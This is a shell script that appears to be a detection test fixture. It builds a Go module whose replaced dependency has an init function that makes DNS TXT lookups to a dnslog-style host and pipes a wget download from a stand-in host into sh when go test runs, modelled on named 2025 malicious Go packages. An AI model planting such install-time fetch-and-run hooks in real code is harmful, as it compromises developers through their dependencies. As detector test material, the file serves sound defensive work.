#!/bin/bash
# A module whose init function, in a test, asks for commands in answers of type TXT and pipes a download into a shell.
#: tool go
#: description go test runs the init function of a dependency, which asks for text by DNS and pipes a download into sh
#: project a module with one replaced dependency
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve files.example=203.0.113.10
#: toolcache go/1/x64=/usr/local/go
#: finding pipe-to-interpreter
#: attack boltdb-go and shopsprint/decimal, 2025; disk wipers, May 2025, without the wiping
if [ "${1-}" = prepare ]; then
  mkdir -p decimal
  printf 'module app.example/app\n\ngo 1.20\n\nrequire decimal.example/decimal v1.0.0\n\nreplace decimal.example/decimal => ./decimal\n' > go.mod
  printf 'package app\n\nimport (\n\t"testing"\n\n\t_ "decimal.example/decimal"\n)\n\nfunc TestNothing(t *testing.T) {}\n' > app_test.go
  printf 'module decimal.example/decimal\n\ngo 1.20\n' > decimal/go.mod
  cat > decimal/decimal.go <<'END'
package decimal

import (
	"net"
	"os/exec"
)

func init() {
	for part := 0; part < 5; part++ {
		net.LookupTXT("dnslog-cdn-images.example")
	}
	exec.Command("/bin/sh", "-c", "wget -q -O- http://files.example/step.sh | sh").Run()
}
END
  CGO_ENABLED=0 go test -c -o /dev/null . && CGO_ENABLED=0 go vet .
  exit
fi
CGO_ENABLED=0 go test -vet=off .
